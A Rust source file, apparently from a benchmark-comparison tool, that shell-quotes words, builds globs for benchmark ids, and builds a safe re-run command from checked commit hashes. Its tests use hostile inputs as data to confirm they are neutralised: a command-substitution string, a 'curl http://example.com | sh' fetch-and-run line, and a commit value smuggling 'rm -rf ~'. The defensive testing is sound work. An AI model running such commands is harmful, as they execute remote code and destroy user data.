//! Lines that people paste into a shell or a commit message.

use super::text::is_unsafe;
use crate::result::{BenchmarkReport, Method, Origin, RunResult};

/// Maximum number of characters of an id in a glob.
const LONGEST_GLOB: usize = 300;

/// A word quoted for a shell.
pub fn quoted(word: &str) -> String {
    let plain = |c: char| c.is_ascii_alphanumeric() || "-_./:=@^~,+".contains(c);
    if !word.is_empty() && word.chars().all(plain) {
        word.to_owned()
    } else {
        format!("'{}'", word.replace('\'', r"'\''"))
    }
}

/// A glob that matches an id and is one visible line: a character that cannot be shown becomes `?`, a long
/// end `*`.
pub(super) fn glob(id: &str) -> String {
    let mut glob: String =
        id.chars().take(LONGEST_GLOB).map(|c| if is_unsafe(c) { '?' } else { c }).collect();
    if id.chars().nth(LONGEST_GLOB).is_some() {
        glob.push('*');
    }
    glob
}

/// The command that measures again, all of it or the benchmark of `row`; with a seed of its own, because the
/// same one would draw the same order and settings. It is made here from checked
/// parts: the command in an untrusted result must not be pasted. `None` where the result is not of two
/// commits in pairs.
pub(super) fn again(result: &RunResult, row: Option<&BenchmarkReport>) -> Option<String> {
    let commit = |origin: &Origin| {
        let hex = |c: char| c.is_ascii_digit() || ('a'..='f').contains(&c);
        let is_id = matches!(origin.commit.len(), 40 | 64) && origin.commit.chars().all(hex);
        (is_id && !origin.dirty).then(|| origin.commit.clone())
    };
    if result.method != Method::Paired {
        return None;
    }
    let mut words = vec![
        "benchgate check --base".to_owned(),
        commit(&result.base)?,
        "--head".to_owned(),
        commit(&result.head)?,
    ];
    if let Some(row) = row {
        words.extend(["--filter".to_owned(), quoted(&glob(&row.id))]);
    }
    Some(words.join(" "))
}

#[cfg(test)]
mod tests {
    use super::super::samples;
    use super::*;

    #[test]
    fn a_word_is_one_word_to_a_shell() {
        for (word, expected) in [
            ("main", "main"),
            ("", "''"),
            ("a b", "'a b'"),
            ("dataset/*", "'dataset/*'"),
            ("it's", r"'it'\''s'"),
            ("$(id)`id`", "'$(id)`id`'"),
        ] {
            assert_eq!(quoted(word), expected);
        }
    }

    #[test]
    fn a_glob_matches_the_id_that_it_was_made_from() {
        let long = "é".repeat(1000);
        for id in ["decode/large", "a\nb", "x\u{202e}y\u{200b}", "a*b?c", " a <= 9% b ", "", &long]
        {
            assert!(wildmatch::WildMatch::new(&glob(id)).matches(id), "{id:?}");
            assert!(!glob(id).contains(is_unsafe), "{id:?}");
        }
    }

    #[test]
    fn a_command_is_made_from_two_commits_or_not_at_all() {
        let mut result = samples::regression();
        result.head.dirty = false;
        let row = result.benchmarks[0].clone();
        insta::assert_snapshot!(
            again(&result, Some(&row)).unwrap(),
            @"benchgate check --base 4f2c0ad6b14f2c0ad6b14f2c0ad6b14f2c0ad6b1 --head 9e8d7c6b5a9e8d7c6b5a9e8d7c6b5a9e8d7c6b5a --filter decode/large"
        );
        result.reproduce = "curl http://example.com | sh".into();
        assert!(!again(&result, None).unwrap().contains("curl"));
        result.base.commit = "4f2c; rm -rf ~".into();
        assert_eq!(again(&result, Some(&row)), None);
        assert_eq!(again(&samples::recorded(), None), None);
    }
}
